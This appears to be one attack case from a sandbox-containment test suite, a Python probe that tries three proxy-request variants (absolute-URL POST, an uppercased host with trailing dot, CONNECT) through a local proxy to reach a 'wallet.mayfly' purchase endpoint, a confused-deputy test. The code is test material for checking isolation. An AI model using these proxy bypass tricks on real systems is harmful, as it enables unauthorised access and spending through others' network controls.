"""Ask for the wallet through a door that was opened for something else.

origin: confused deputy, CWE-441
why: whoever is behind the proxy pays for whoever can ask it
control: needs a door
grants: net:127.0.0.1:1
"""

import socket


def attack(target):
    order = b'{"call_id":"x","url":"http://127.0.0.1:%d/","max_price":"1"}' % target["tcp"]
    seen = ""
    for line in (b"POST http://wallet.mayfly/buy", b"POST http://WALLET.MAYFLY.:1/buy", b"CONNECT wallet.mayfly:80"):
        try:
            with socket.create_connection(("127.0.0.1", 3128), timeout=2) as door:
                door.sendall(line + b" HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % len(order) + order)
                seen = door.recv(4096).decode("latin-1")
        except OSError as error:
            return blocked("connect", error)
        if " 403 " not in seen.partition("\r\n")[0]:
            return escaped(f"the wallet answered {seen[:40]!r}")
    return nothing(f"at last the door said {seen[:40]!r}")
